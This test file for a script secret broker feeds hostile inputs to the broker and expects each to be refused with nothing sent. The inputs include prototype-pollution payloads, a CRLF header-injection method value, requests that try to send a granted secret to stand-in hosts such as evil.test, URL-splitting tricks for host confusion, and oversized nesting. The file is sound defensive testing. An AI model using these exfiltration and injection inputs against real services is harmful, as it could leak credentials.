/**
 * A script's process that was taken over writes what it likes into its pipe. It gets nothing but its grant, and what
 * is no message of ours ends the run.
 */
import { describe, expect, test } from 'vitest';
import { createScriptBroker, fixedSecrets, parseGrant } from '../../../src/guard/secrets/broker/index.ts';
import type { BrokerNotice, OutgoingRequest } from '../../../src/guard/secrets/broker/index.ts';
import { reply } from '../../support/script-box.ts';

const MINE = 'mine_8f2k39xQ7aLmP0zR';
const THEIRS = 'theirs_Zz91mQpL5vBn3XcY';

function open() {
  const sent: OutgoingRequest[] = [];
  const notices: BrokerNotice[] = [];
  const broker = createScriptBroker({
    grant: parseGrant({ secrets: { MINE: ['api.test'] }, hosts: ['api.test'], methods: ['GET', 'POST'] }),
    secrets: fixedSecrets(
      new Map([
        ['MINE', MINE],
        ['THEIRS', THEIRS],
      ]),
    ),
    watcher: { notice: (notice) => notices.push(notice) },
    remainingMs: () => 30_000,
  });
  const say = (line: string): string =>
    broker.handleNow(line, (request) => {
      sent.push(request);
      return reply(`{"access_token":"fresh_5nQ8wYz2XkLm","key":"${THEIRS}"}`);
    });
  return { broker, say, sent, notices };
}

const http = (over: Record<string, unknown>): string =>
  JSON.stringify({ op: 'http', method: 'GET', url: ['https://api.test/'], headers: [], body: [], ...over });

function nested(kind: string, depth: number): unknown {
  let node: unknown = ['ref', 'MINE'];
  for (let i = 0; i < depth; i += 1) node = [kind, [node]];
  return node;
}

describe('what is no message ends the run and reaches nobody', () => {
  test.each<[string, string]>([
    ['nothing', ''],
    ['no JSON', 'GET / HTTP/1.1'],
    ['a number', '1'],
    ['null', 'null'],
    ['a list', '[]'],
    ['an unknown operation', '{"op":"reveal","name":"MINE"}'],
    ['an operation of a prototype', '{"op":"constructor"}'],
    ['a member more', '{"op":"get","name":"MINE","as":"text"}'],
    ['a prototype as a member', '{"op":"get","name":"MINE","__proto__":{"granted":true}}'],
    ['a prototype in place of members', '{"__proto__":{"op":"get","name":"MINE"}}'],
    ['a name that is no text', '{"op":"get","name":["MINE"]}'],
    ['a name without end', `{"op":"get","name":"${'A'.repeat(300)}"}`],
    ['a method of another case', http({ method: 'get' })],
    ['a method that is none of ours', http({ method: 'CONNECT' })],
    ['a method with more behind it', http({ method: 'GET / HTTP/1.1\r\nHost: evil' })],
    ['a URL that is a text', http({ url: 'https://api.test/' })],
    ['a URL that is an object', http({ url: { 0: 'https://api.test/', length: 1 } })],
    ['headers that are an object', http({ headers: { a: ['b'] } })],
    ['a header of three', http({ headers: [['a', ['b'], ['c']]] })],
    ['too many headers', http({ headers: Array.from({ length: 65 }, (_, i) => [`h${i}`, ['x']]) })],
    ['a node of an unknown kind', http({ body: [['raw', ['ref', 'MINE']]] })],
    ['a node of a prototype', http({ body: [['__proto__', ['x']]] })],
    ['a node that is null', http({ body: [null] })],
    ['a node that is empty', http({ body: [[]] })],
    ['a reference with more behind it', http({ body: [['ref', 'MINE', 'x']] })],
    ['a reference of another form', http({ body: [['ref', 'mine']] })],
    ['a reference to a prototype', http({ body: [['ref', '__proto__']] })],
    ['a reference that is a rope', http({ body: [['ref', ['MINE']]] })],
    ['a reference with a line end', http({ body: [['ref', 'MINE\n']] })],
    ['a run reference of number 0', http({ body: [['ref', 'MINE@0']] })],
    ['a function with two operands', http({ body: [['sha256', ['a'], ['b']]] })],
    ['a signature with one operand', http({ body: [['hmac', ['a']]] })],
    ['functions nested too deeply', http({ body: [nested('b64', 5)] })],
    [
      'functions nested without end',
      `{"op":"http","method":"GET","url":["https://api.test/"],"headers":[],"body":${'[["b64",'.repeat(100_000)}`,
    ],
    ['brackets without end', '['.repeat(4_000_000)],
    [
      'brackets without end in a body',
      http({ body: 0 }).replace('"body":0', `"body":${'['.repeat(500_000)}${']'.repeat(500_000)}`),
    ],
    ['too many nodes', http({ body: Array.from({ length: 4_097 }, () => ['sha256', ['']]) })],
    ['too many nodes inside', http({ body: [['sha256', Array.from({ length: 13_000 }, () => 'x')]] })],
    ['a body that is too large', http({ body: ['x'.repeat(1024 * 1024 + 1)] })],
    ['a body of too many secrets', http({ body: Array.from({ length: 257 }, () => ['ref', 'MINE']) })],
    [
      'long text inside hashes',
      http({ body: Array.from({ length: 3 }, () => ['sha256', ['x'.repeat(600_000)]]) }),
    ],
    ['a line that is too long', http({ body: ['x'.repeat(9 * 1024 * 1024)] })],
    ['half a character', http({}).replace('api.test/', 'api.test/\\ud800')],
  ])('%s', (_what, line) => {
    const { broker, say, sent, notices } = open();
    expect(JSON.parse(say(line))).toMatchObject({ refused: { code: 'protocol_violation' } });
    expect(broker.stopped).toBe('protocol_violation');
    expect(notices).toEqual([{ event: 'protocol_violation' }]);
    expect(JSON.parse(say('{"op":"list"}'))).toMatchObject({ refused: { code: 'stopped' } });
    expect(sent).toEqual([]);
  });
});

describe('a process that speaks the protocol gets nothing but its grant', () => {
  test('the secret of another script', () => {
    const { say, sent } = open();
    expect(say('{"op":"get","name":"THEIRS"}')).toBe('{"found":false}');
    expect(say('{"op":"list"}')).toBe('{"names":["MINE"]}');
    expect(say(http({ url: ['https://api.test/?k=', ['ref', 'THEIRS']] }))).toContain('secret_not_granted');
    expect(sent).toEqual([]);
  });

  test('its own secret, to anybody but its host', () => {
    for (const url of [
      'https://evil.test/?k=',
      'https://api.test.evil.test/?k=',
      'https://api.test:444/?k=',
      'http://api.test/?k=',
    ]) {
      const { say, sent } = open();
      expect(say(http({ url: [url, ['ref', 'MINE']] }))).toContain('"refused"');
      expect(sent).toEqual([]);
    }
  });

  test('a text that was cut so that its start looks different', () => {
    const { say, sent } = open();
    expect(say(http({ url: ['https://api.test', '.evil.test/?k=', ['ref', 'MINE']] }))).toContain(
      'host_not_granted',
    );
    expect(say(http({ url: ['', 'https://api.test', '', '@evil.test/?k=', ['ref', 'MINE']] }))).toContain(
      'url_invalid',
    );
    expect(sent).toEqual([]);
  });

  test('references of another run mean nothing in this one', () => {
    const first = open();
    const minted = /"(ACCESS_TOKEN@\d+)"/.exec(first.say(http({})))?.[1] ?? '';
    expect(minted).not.toBe('');
    expect(first.say(http({ url: ['https://api.test/?t=', ['ref', minted]] }))).toContain('"response"');
    const second = open();
    expect(second.say(http({ url: ['https://api.test/?t=', ['ref', minted]] }))).toContain(
      'secret_not_granted',
    );
    expect(second.sent).toEqual([]);
  });

  test('no answer of the broker holds a value', () => {
    const { say } = open();
    const lines = [
      http({}),
      http({ url: ['https://api.test/?k=', ['ref', 'MINE']] }),
      '{"op":"get","name":"MINE"}',
    ];
    for (const line of lines) expect(say(line)).not.toContain(MINE);
  });

  test('refusals without end are an end', () => {
    const { broker, say } = open();
    for (let i = 0; i < 100; i += 1) say(http({ url: [`https://evil.test/${i}`] }));
    expect(broker.stopped).toBeUndefined();
    expect(say(http({}))).toContain('protocol_violation');
  });

  test('notices do not flood the log', () => {
    const { say, notices } = open();
    for (let i = 0; i < 1_000; i += 1) say(`{"op":"get","name":"GUESS_${i}"}`);
    expect(notices).toHaveLength(201);
    expect(notices.at(-1)).toEqual({ event: 'notices_cut' });
  });
});
